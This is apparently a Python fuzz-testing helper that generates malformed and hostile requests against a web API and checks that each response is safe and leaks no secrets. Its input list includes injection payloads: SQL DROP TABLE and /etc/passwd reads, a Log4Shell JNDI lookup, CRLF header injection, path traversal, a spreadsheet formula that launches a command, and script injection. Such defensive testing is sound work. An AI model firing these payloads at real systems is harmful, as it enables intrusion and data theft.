"""Requests that nobody with good intentions sends, and what every answer to them must be.

Known words stand in the requests and in the extracts: where one of them is that does not belong there, is a leak.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any, Final

from hypothesis import strategies as st

from tests.support.factories import a_draft, an_export

if TYPE_CHECKING:
    from collections.abc import Iterable, Mapping

    from tests.support.http_routes import HttpRoute

MARK: Final = "Qwertzword"
"""Stands in what is sent. It may be shown to whoever saved it, and must reach no log, audit entry or message."""
PEOPLE: Final = ("Zebedee", "Quillfeather", "zebedee.quillfeather@people.example")
"""First name, last name and address of somebody in the extracts: shown to nobody."""
STATUSES: Final = frozenset({200, 201, 202, 204, 400, 401, 403, 404, 409, 412, 415, 422, 429})
ANSWER_MAX: Final = 200_000
"""Bytes of an answer, whatever was asked."""
PROBLEM_MAX: Final = 30_000
"""Bytes of a problem document."""

NASTY: Final = (
    "",
    " ",
    "\0",
    "a\0b",
    "\r\nX-Injected: yes",
    "../../connections/main",
    "..%2f..%2f",
    "%00",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE piece; --",
    "\"' || (select content from read_text('/etc/passwd')) || '",
    "${jndi:ldap://x.example}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "\u202egnp.exe",
    "\ufb01\uff20\ufb00",
    "٣",
    "👩‍👩‍👧‍👦",
    "e\u0301" * 40,
    "\ufeff",
    "\U0010ffff",
    "\ud800",
    "NaN",
    "1e999",
    "-1",
    "0x10",
    "9" * 5_000,
    "true",
    "null",
    "[]",
    "{}",
    "*",
    'W/"',
    '"0x1", "0x2"',
    "x" * 300,
    "x" * 20_000,
    f"SG.{MARK}.{MARK}",
    f"{MARK} of {MARK}@example.com",
)
texts: Final = st.sampled_from(NASTY) | st.text(max_size=60)
numbers: Final = (
    st.sampled_from([0, -1, 2**31, 2**63, 2**64, 10**400, 0.1, -0.0, 1e308]) | st.integers() | st.floats()
)
json_values: Final = st.recursive(
    st.none() | st.booleans() | numbers | texts,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(texts, inner, max_size=4),
    max_leaves=12,
)
_DEPTHS: Final = (10, 300, 990, 2_000, 4_000, 9_000, 20_000, 100_000)


def _deep(depth: int, opening: str, name: str) -> bytes:
    closing = {"[": "]", '{"a":': "}"}[opening]
    return f'{{"{name}": {opening * depth}1{closing * depth}}}'.encode()


NAMES: Final = ("name", "mapping", "consent", "schedule", "source", "rows", "force", "users", "surprise")
bodies_of_odd_shape: Final = st.one_of(
    st.binary(max_size=200),
    st.builds(_deep, st.sampled_from(_DEPTHS), st.sampled_from(["[", '{"a":']), st.sampled_from(NAMES)),
    st.sampled_from(
        [
            b"[" * 100_000,
            b'{"rows":' + b"9" * 10_000 + b"}",
            b'{"rows": 1e400}',
            b'{"rows": NaN}',
            b'{"name": "\\ud800"}',
            b'{"a": 1, "a": 2}',
            b"\xef\xbb\xbf{}",
            '{"name": "x"}'.encode("utf-16"),
            b"{" + b" " * 1_100_000 + b"}",
            json.dumps({f"{MARK}{number}": 1 for number in range(30_000)}).encode(),
            json.dumps({"segments": ["x"] * 100_000}).encode(),
            json.dumps({"users": list(range(100_000))}).encode(),
            json.dumps({"mapping": {"email": "E", "custom_fields": {MARK * 9_000: MARK}}}).encode(),
        ]
    ),
    json_values.map(lambda value: json.dumps(value).encode()),
)
_GOOD: Final[Mapping[str, dict[str, Any]]] = {
    "put_connection": a_draft(users=["nora"], segments=["Customers"]).model_dump(mode="json"),
    "put_connection_key": {"key": "SG.key"},
    "put_export": an_export(connection="main", segments=("Customers",)).model_dump(mode="json"),
    "preview_export": {"rows": 10},
    "start_run": {"force": True},
}
"""Bodies that are taken, by function."""


@st.composite
def spoilt_bodies(draw: st.DrawFn, good: Mapping[str, Any]) -> bytes:
    """A good body of which one member, or one of a member's members, is something else."""
    body = json.loads(json.dumps(good))
    place = body
    name = draw(st.sampled_from(sorted(body)))
    if isinstance(place[name], dict) and place[name] and draw(st.booleans()):
        place = place[name]
        name = draw(st.sampled_from(sorted(place)))
    place[name] = draw(json_values)
    return json.dumps(body).encode()


def bodies(function: str) -> st.SearchStrategy[bytes]:
    """What may be sent as a body to a function."""
    good = _GOOD.get(function)
    if good is None:
        return st.just(b"") | bodies_of_odd_shape
    return st.just(b"") | st.just(json.dumps(good).encode()) | spoilt_bodies(good) | bodies_of_odd_shape


@dataclass(frozen=True, kw_only=True)
class HostileRequest:
    """One of them."""

    route: HttpRoute
    parameters: Mapping[str, str]
    """What stands in the route."""
    query: Mapping[str, str]
    headers: Mapping[str, str] = field(repr=False)
    body: bytes = field(repr=False)

    def __repr__(self) -> str:
        """How hypothesis shows it: short."""
        headers = {name: value[:80] for name, value in self.headers.items()}
        query = {name: value[:80] for name, value in self.query.items()}
        return f"{self.route.name} {self.parameters!r:.200} {query} {headers} {self.body[:300]!r}"


QUERIES: Final = (
    *("limit", "before", "part", "cursor", "since", "until", "caller", "caller_type", "operation", "connection"),
    *("export", "run", "result", "denied", "source", "code", "clientId", "surprise"),
)
HEADERS: Final = (
    *(
        "if-match",
        "if-none-match",
        "idempotency-key",
        "content-type",
        "accept",
        "accept-encoding",
        "range",
        "host",
    ),
    *(
        "x-forwarded-for",
        "x-ms-client-principal",
        "x-ms-client-principal-name",
        "x-functions-key",
        "cookie",
        "origin",
    ),
    *("x-http-method-override", "traceparent", "content-encoding", "x-original-url", "origin"),
)


def _mostly(draw: st.DrawFn) -> bool:
    """Nine times in ten: a request that is wrong in one place gets farther than one that is wrong everywhere."""
    return draw(st.sampled_from([True] * 9 + [False]))


@st.composite
def hostile_requests(
    draw: st.DrawFn, route: HttpRoute, *, tokens: Iterable[str], known: Mapping[str, Iterable[str]]
) -> HostileRequest:
    """A request to one route.

    Args:
        draw: Hypothesis's.
        route: Which is asked.
        tokens: Of those who may do something; often one of them is sent.
        known: By the name of a parameter what is there.
    """
    parameters = {
        name: draw(st.sampled_from(sorted(known[name])) if _mostly(draw) else texts) for name in route.parameters
    }
    headers = draw(st.dictionaries(st.sampled_from(HEADERS), texts, max_size=3))
    if _mostly(draw):
        headers["authorization"] = f"Bearer {draw(st.sampled_from(sorted(tokens)))}"
    else:
        headers["authorization"] = draw(st.sampled_from(["", "Bearer ", "bearer", "Basic "])) + draw(texts)
    query = draw(st.dictionaries(st.sampled_from(QUERIES), texts, max_size=2))
    return HostileRequest(
        route=route, parameters=parameters, query=query, headers=headers, body=draw(bodies(route.name))
    )


def judge(status: int, headers: Mapping[str, str], body: bytes, *, secrets: Iterable[str]) -> None:
    """Fail unless an answer is one that may be given, whatever was asked.

    Args:
        status: Its status.
        headers: Its headers.
        body: Its body.
        secrets: Keys and tokens; none of them, and nobody of the extracts, may stand in it.
    """
    named = {name.lower(): value for name, value in headers.items()}
    assert status in STATUSES, status
    assert len(body) <= ANSWER_MAX, len(body)
    shown = body.decode() + json.dumps(named)
    assert shown.isascii() or named["content-type"].startswith(("text/", "application/"))
    assert not [word for word in (*PEOPLE, *secrets) if word in shown]
    assert (named["cache-control"], named["x-content-type-options"]) == ("no-store", "nosniff")
    if status >= 400:
        _judge_problem(status, named, body)
    if status == 429:
        assert int(named["retry-after"]) >= 1
    if status == 401:
        assert named["www-authenticate"] == "Bearer"


def _judge_problem(status: int, headers: Mapping[str, str], body: bytes) -> None:
    """Fail unless it is a problem document, https://www.rfc-editor.org/rfc/rfc9457, that says something."""
    assert headers["content-type"].startswith("application/problem+json"), headers
    assert len(body) <= PROBLEM_MAX, len(body)
    problem = json.loads(body)
    assert (problem["status"], problem["type"]) == (status, f"/api/reasons#{problem['code']}")
    assert problem["title"]
    assert problem["detail"]
    assert problem.keys() <= {"type", "title", "status", "detail", "code", "request_id", "errors"}
    for error in problem.get("errors", ()):
        assert error.keys() - {"pointer"} == {"field", "message"}
        assert error["field"]
        assert error["message"]


def leaks(told: str, *, secrets: Iterable[str]) -> list[str]:
    """Words that stand in a log, an audit entry or a message, and must not."""
    return [word for word in (MARK, *PEOPLE, *secrets) if word in told]
